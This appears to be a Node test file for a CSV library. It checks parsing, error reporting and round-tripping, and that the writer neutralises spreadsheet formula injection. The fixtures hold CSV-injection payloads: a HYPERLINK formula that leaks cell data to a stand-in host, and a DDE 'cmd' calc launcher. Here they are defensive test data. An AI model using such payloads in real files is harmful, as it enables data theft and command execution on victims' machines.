import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseCSV, toCSV } from '../../src/csv.js';
import Papa from 'papaparse';
import { defineSchema } from '../../src/schema-engine.js';

const schema = defineSchema({
  name: 'sample',
  key: ['code'],
  fields: {
    code: { type: 'string', description: 'FIPS code, text' },
    deaths: { type: 'integer', thousands: true, nullable: true, description: 'count' },
    month: { type: 'month', description: 'period' },
  },
});

test('codes stay text, counts with thousands separators parse exactly, empty stays null', () => {
  const { rows, errors } = parseCSV('code,deaths,month\n06,"5,496",2022-12\n01,,2023-01\n', schema);
  assert.deepEqual(errors, []);
  assert.deepEqual(rows, [
    { code: '06', deaths: 5496, month: '2022-12' },
    { code: '01', deaths: null, month: '2023-01' },
  ]);
});

test('every bad cell is reported with its row, column, value and what was expected', () => {
  const { rows, errors } = parseCSV('code,deaths,month\n06,12x,2022-13\n01,"1,0000",2023-01\n', schema, { file: 'mine.csv' });
  assert.equal(rows.length, 0);
  assert.deepEqual(
    errors.map((e) => [e.file, e.row, e.column, e.value]),
    [
      ['mine.csv', 2, 'deaths', '12x'],
      ['mine.csv', 2, 'month', '2022-13'],
      ['mine.csv', 3, 'deaths', '1,0000'],
    ],
  );
  assert.match(errors[1]!.expected, /YYYY-MM/);
});

test('a missing column is one clear error naming it', () => {
  const { errors } = parseCSV('code,month\n06,2022-12\n', schema);
  assert.equal(errors.length, 1);
  assert.match(errors[0]!.expected, /"deaths"/);
});

test('toCSV writes canonical text that parses back to the same rows', () => {
  const rows = [
    { code: '06', deaths: 5496, month: '2022-12' },
    { code: '01', deaths: null, month: '2023-01' },
  ];
  const text = toCSV(rows, schema);
  assert.equal(text, 'code,deaths,month\n06,5496,2022-12\n01,,2023-01\n');
  assert.deepEqual(parseCSV(text, schema).rows, rows);
});

test('toCSV quotes exactly where papaparse’s unparse would, so files stay byte-identical', () => {
  const awkward = [
    'plain',
    '-5 lead',
    '@x',
    '+1',
    '\tindent',
    'a=b',
    'a,b',
    'say "no"',
    'line\nbreak',
    'cr\rhere',
    ' lead',
    'trail ',
    'in side',
    '\ufeffbom',
    '',
    'tab\tx',
    '=1+2',
    'ñandú — “curly”',
  ];
  const rows = awkward.map((value, i) => ({ id: String(i), value, other: awkward[awkward.length - 1 - i]! }));
  const papa =
    Papa.unparse(
      { fields: ['id', 'value', 'other'], data: rows.map((r) => [r.id, r.value, r.other]) },
      { newline: '\n', quotes: false, escapeFormulae: true },
    ) + '\n';
  assert.equal(toCSV(rows), papa);
  assert.equal(toCSV([]), '\n', 'no rows and no schema: no columns');
  // No rows: the header line alone (papaparse added a blank line after it).
  assert.equal(
    toCSV([], defineSchema({ name: 't', key: [], fields: { 'a b ': { type: 'string' }, 'c,d': { type: 'string' } } } as never)),
    '"a b ","c,d"\n',
  );
});

test('a text a spreadsheet would run as a formula is neutralised (OWASP): leading apostrophe, quoted', () => {
  const rows = [
    { text: '=HYPERLINK("https://evil.example/?d="&A1,"Click")', n: -22.8 },
    { text: '+1-555-0100', n: 0 },
    { text: '-22.8', n: -1 },
    { text: '@SUM(A1:A2)', n: 3 },
    { text: '\t=1+1', n: 4 },
    { text: '\r=1+1', n: 5 },
    // papaparse's escapeFormulae misses this one: its /^[=…].*$/ does not cross a line break.
    { text: '=1+1\nsecond line', n: 6 },
    { text: 'safe = text', n: Number.NEGATIVE_INFINITY },
  ];
  assert.equal(
    toCSV(rows),
    [
      'text,n',
      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")",-22.8`,
      `"'+1-555-0100",0`,
      `"'-22.8",-1`,
      `"'@SUM(A1:A2)",3`,
      `"'\t=1+1",4`,
      `"'\r=1+1",5`,
      `"'=1+1\nsecond line",6`,
      // Not a finite number: a spreadsheet would try "-Infinity" as a formula.
      `safe = text,"'-Infinity"`,
      '',
    ].join('\n'),
  );
});

test('with a schema, number fields stay numbers and text fields are neutralised, also in headers', () => {
  const s = defineSchema({
    name: 'changes',
    key: ['name'],
    fields: {
      name: { type: 'string', description: 'text' },
      change: { type: 'number', nullable: true, description: 'percent' },
      tags: { type: 'list', separator: ';', description: 'list' },
    },
  });
  const text = toCSV(
    [
      { name: "=cmd|' /C calc'!A0", change: -22.8, tags: ['-x', 'y'] },
      { name: 'Ohio', change: null, tags: [] },
    ],
    s,
  );
  assert.equal(text, `name,change,tags\n"'=cmd|' /C calc'!A0",-22.8,"'-x;y"\nOhio,,\n`);
  assert.equal(toCSV([{ '=bad header': 1 }]), `"'=bad header"\n1\n`);
});
